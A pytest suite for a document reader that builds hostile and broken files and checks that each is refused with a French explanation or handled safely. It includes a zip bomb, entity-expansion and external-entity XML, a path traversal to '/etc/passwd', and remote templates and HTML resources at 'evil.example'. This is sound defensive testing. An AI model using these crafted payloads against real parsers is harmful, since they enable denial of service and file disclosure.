"""Files that nobody should have sent: each is refused in French, with what to do."""

from __future__ import annotations

import os
import socket
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from fpdf import FPDF

from guide.documents import DocumentError, bounds, read_document

DATA = Path(__file__).parent / "data"
WORD = DATA / "etapes-titres.docx"
WRITER = DATA / "chapitres.odt"
PRINTED = DATA / "notice.pdf"
BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>"
)


def rewritten(source: Path, target: Path, parts: dict[str, bytes]) -> Path:
    """A copy of an archive with some of its parts replaced or added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(name) if name in parts else old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return target


def refusal(path: Path) -> str:
    with pytest.raises(DocumentError) as caught:
        read_document(path)
    return str(caught.value)


def missing(folder: Path) -> Path:
    return folder / "absent.docx"


def a_folder(folder: Path) -> Path:
    return folder


def empty(folder: Path) -> Path:
    path = folder / "vide.txt"
    path.write_bytes(b"")
    return path


def blank(folder: Path) -> Path:
    path = folder / "blanc.txt"
    path.write_bytes(b" \r\n\xc2\xa0\r\n")
    return path


def pipe(folder: Path) -> Path:
    path = folder / "tube.txt"
    os.mkfifo(path)
    return path


def cut_short(folder: Path) -> Path:
    path = folder / "coupe.docx"
    path.write_bytes(WORD.read_bytes()[:9000])
    return path


def damaged(folder: Path) -> Path:
    with zipfile.ZipFile(WRITER) as archive:
        start = archive.getinfo("content.xml").header_offset + 100
    data = bytearray(WRITER.read_bytes())
    data[start : start + 500] = b"\x55" * 500
    path = folder / "abime.odt"
    path.write_bytes(data)
    return path


def no_xml(folder: Path) -> Path:
    return rewritten(WORD, folder / "pas-xml.docx", {"word/document.xml": b"<w:document"})


def broken_pdf(folder: Path) -> Path:
    path = folder / "abime.pdf"
    path.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 20)
    return path


def text_named_docx(folder: Path) -> Path:
    path = folder / "renomme.docx"
    path.write_text("1. Cliquer sur « Valider »", "utf-8")
    return path


def locked_pdf(folder: Path) -> Path:
    pdf = FPDF()
    pdf.set_encryption(owner_password="proprietaire", user_password="lecteur")
    pdf.add_page()
    pdf.output(str(folder / "protege.pdf"))
    return folder / "protege.pdf"


def locked_word(folder: Path) -> Path:
    path = folder / "protege.docx"
    stream = "EncryptedPackage".encode("utf-16-le")
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + stream + bytes(600))
    return path


def locked_writer(folder: Path) -> Path:
    manifest = b"<manifest><file-entry><encryption-data/></file-entry></manifest>"
    return rewritten(WRITER, folder / "protege.odt", {"META-INF/manifest.xml": manifest})


def locked_archive(folder: Path) -> Path:
    data = bytearray(WORD.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            struct.pack_into("<H", data, at + offset, data[at + offset] | 1)
            at = data.find(signature, at + 4)
    path = folder / "archive-protegee.docx"
    path.write_bytes(data)
    return path


def old_word(folder: Path) -> Path:
    path = folder / "ancien.doc"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))
    return path


def rich_text(folder: Path) -> Path:
    path = folder / "texte.rtf"
    path.write_bytes(rb"{\rtf1\ansi Cliquer}")
    return path


def spreadsheet(folder: Path) -> Path:
    path = folder / "tableur.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return path


def plain_archive(folder: Path) -> Path:
    path = folder / "archive.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("lisez-moi.txt", "1. Cliquer")
    return path


def picture(folder: Path) -> Path:
    path = folder / "ecran.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(500))
    return path


def program(folder: Path) -> Path:
    path = folder / "programme.txt"
    path.write_bytes(b"\x7fELF" + bytes([0, 1, 2, 0xFF, 0xFE, 7, 0, 0, 3, 9]) * 300)
    return path


def enormous_text(folder: Path) -> Path:
    path = folder / "enorme.txt"
    with path.open("wb") as stream:
        stream.truncate(5 * 1024 * 1024)
    return path


def enormous_file(folder: Path) -> Path:
    path = folder / "enorme.pdf"
    with path.open("wb") as stream:
        stream.write(b"%PDF-1.7\n")
        stream.truncate(65 * 1024 * 1024)
    return path


def bomb(folder: Path) -> Path:
    inflated = BODY.format(" " * 60_000_000).encode()
    return rewritten(WORD, folder / "bombe.docx", {"word/document.xml": inflated})


def many_parts(folder: Path) -> Path:
    path = folder / "morceaux.docx"
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(10_050):
            archive.writestr(f"word/{number}", b"")
    return path


def endless_list_of_parts(folder: Path) -> Path:
    path = folder / "liste.docx"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, 3_000_000, 4, 0)
    path.write_bytes(b"PK\x03\x04" + bytes(3_000_000) + end)
    return path


def endless_lines(folder: Path) -> Path:
    path = folder / "lignes.txt"
    path.write_bytes(b"A\n" * 1_500)
    return path


def endless_paragraphs(folder: Path) -> Path:
    paragraphs = "</w:t></w:r></w:p><w:p><w:r><w:t>".join(map(str, range(1_500)))
    body = BODY.format(paragraphs).encode()
    return rewritten(WORD, folder / "paragraphes.docx", {"word/document.xml": body})


def entities(folder: Path) -> Path:
    laughs = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + BODY.format("&b;")
    return rewritten(WORD, folder / "entites.docx", {"word/document.xml": laughs.encode()})


def outside_entity(folder: Path) -> Path:
    secret = folder / "secret"
    secret.write_text("secret", "utf-8")
    text = f'<!DOCTYPE w [<!ENTITY a SYSTEM "{secret.as_uri()}">]>' + BODY.format("&a;")
    return rewritten(WORD, folder / "entite.docx", {"word/document.xml": text.encode()})


def scanned(folder: Path) -> Path:
    pdf = FPDF()
    pdf.add_page()
    pdf.rect(20, 20, 100, 100, style="F")
    pdf.output(str(folder / "numerise.pdf"))
    return folder / "numerise.pdf"


def too_many_pages(folder: Path) -> Path:
    pdf = FPDF()
    for _ in range(501):
        pdf.add_page()
    pdf.output(str(folder / "long.pdf"))
    return folder / "long.pdf"


REFUSED: dict[Callable[[Path], Path], tuple[str, str]] = {
    missing: ("n’existe pas", "Vérifiez le nom"),
    a_folder: ("est un dossier", "Donnez un document"),
    empty: ("est vide", "Donnez un document"),
    blank: ("ne contient aucun texte", "donnez le document d’origine"),
    pipe: ("pas un fichier ordinaire", "Donnez un document"),
    cut_short: ("abîmé", "Reprenez-en une copie"),
    damaged: ("abîmé", "Reprenez-en une copie"),
    no_xml: ("abîmé", "Reprenez-en une copie"),
    broken_pdf: ("abîmé", "Reprenez-en une copie"),
    text_named_docx: ("abîmé", "Reprenez-en une copie"),
    locked_pdf: ("mot de passe", "sans mot de passe"),
    locked_word: ("mot de passe", "sans mot de passe"),
    locked_writer: ("mot de passe", "sans mot de passe"),
    locked_archive: ("mot de passe", "sans mot de passe"),
    old_word: ("Word 97-2003", "enregistrez-le en .docx"),
    rich_text: ("RTF", "enregistrez-le en .docx"),
    spreadsheet: ("tableur", "Donnez un document"),
    plain_archive: ("archive", "Donnez un document"),
    picture: ("est une image", "Donnez un document"),
    program: ("pas un fichier texte", "Donnez un document"),
    enormous_text: ("dépasse 4 Mo", "coupez-le"),
    enormous_file: ("dépasse 64 Mo", "coupez-le"),
    bomb: ("se déplie", "enregistrez-le"),
    many_parts: ("se déplie", "enregistrez-le"),
    endless_list_of_parts: ("se déplie", "enregistrez-le"),
    entities: ("entités", "enregistrez-le"),
    outside_entity: ("entités", "enregistrez-le"),
    scanned: ("images de pages", "document d’origine"),
    too_many_pages: ("plus de 500 pages", "Coupez-le"),
}


@pytest.mark.parametrize("make", REFUSED, ids=lambda make: make.__name__)
def test_refused_with_the_reason_and_the_remedy(
    make: Callable[[Path], Path], tmp_path: Path
) -> None:
    path = make(tmp_path)
    told = refusal(path)
    assert told.startswith(str(path))
    assert all(words in told for words in REFUSED[make])


@pytest.mark.parametrize("make", [endless_lines, endless_paragraphs])
def test_a_document_without_end_is_refused(
    make: Callable[[Path], Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert bounds.MOST_BLOCKS == 20_000
    monkeypatch.setattr(bounds, "MOST_BLOCKS", 1_000)
    assert "plus de 1\u202f000 paragraphes" in refusal(make(tmp_path))


def test_the_right_to_read_is_asked_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "interdit.txt"
    path.write_text("1. Cliquer", "utf-8")
    monkeypatch.setattr(os, "access", lambda *_: False)
    assert "pas le droit" in refusal(path)


def test_what_the_system_refuses_is_said_in_french(tmp_path: Path) -> None:
    ring = tmp_path / "boucle.txt"
    ring.symlink_to(ring)
    assert "un lien qui renvoie à lui-même" in refusal(ring)
    assert "son nom est trop long" in refusal(tmp_path / f"{'a' * 300}.txt")


def test_macros_are_left_alone(tmp_path: Path) -> None:
    path = rewritten(WORD, tmp_path / "macros.docm", {"word/vbaProject.bin": b"Sub AutoOpen()"})
    document = read_document(path)
    assert document.format == "docx"
    assert len(document.procedures[0].sections) == 10


def test_nothing_is_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a document made the program connect")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" TargetMode="External" Target="http://evil.example/t.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"/>'
        b"</Relationships>"
    )
    word = rewritten(WORD, tmp_path / "liens.docx", {"word/_rels/document.xml.rels": relations})
    assert len(read_document(word).procedures[0].sections) == 10
    page = tmp_path / "page.html"
    page.write_text(
        '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd"><html><head>'
        '<base href="http://evil.example/"><link rel="stylesheet" href="a.css"></head><body>'
        '<iframe src="http://evil.example/"></iframe><img src="http://evil.example/i.png">'
        "<p>1. Cliquez sur « Valider »</p><p>2. Cliquez sur « Accord »</p></body></html>",
        "utf-8",
    )
    assert [step.number for step in read_document(page).procedures[0].sections] == ["1", "2"]


def test_parts_that_lead_out_of_the_archive_are_not_followed(tmp_path: Path) -> None:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Target="../../../../etc/passwd" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"/>'
        b"</Relationships>"
    )
    word = rewritten(WORD, tmp_path / "sortie.docx", {"word/_rels/document.xml.rels": relations})
    assert len(read_document(word).procedures[0].sections) == 10


def nested(folder: Path, depth: int) -> Path:
    page = folder / "profond.html"
    page.write_text(
        "<p>1. Cliquez</p>" + "<div>" * depth + "2. Validez" + "</div>" * depth, "utf-8"
    )
    return page


def test_what_is_nested_is_read(tmp_path: Path) -> None:
    assert len(read_document(nested(tmp_path, 200)).procedures[0].sections) == 2


def test_what_is_nested_without_end_is_refused_and_not_cut(tmp_path: Path) -> None:
    assert "imbriqué" in refusal(nested(tmp_path, 5000))


def test_styles_in_a_ring_end(tmp_path: Path) -> None:
    ring = (
        b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<w:style w:styleId="Strong"><w:basedOn w:val="Normal"/></w:style>'
        b'<w:style w:styleId="Normal"><w:basedOn w:val="Strong"/></w:style></w:styles>'
    )
    word = rewritten(WORD, tmp_path / "anneau.docx", {"word/styles.xml": ring})
    assert read_document(word).procedures
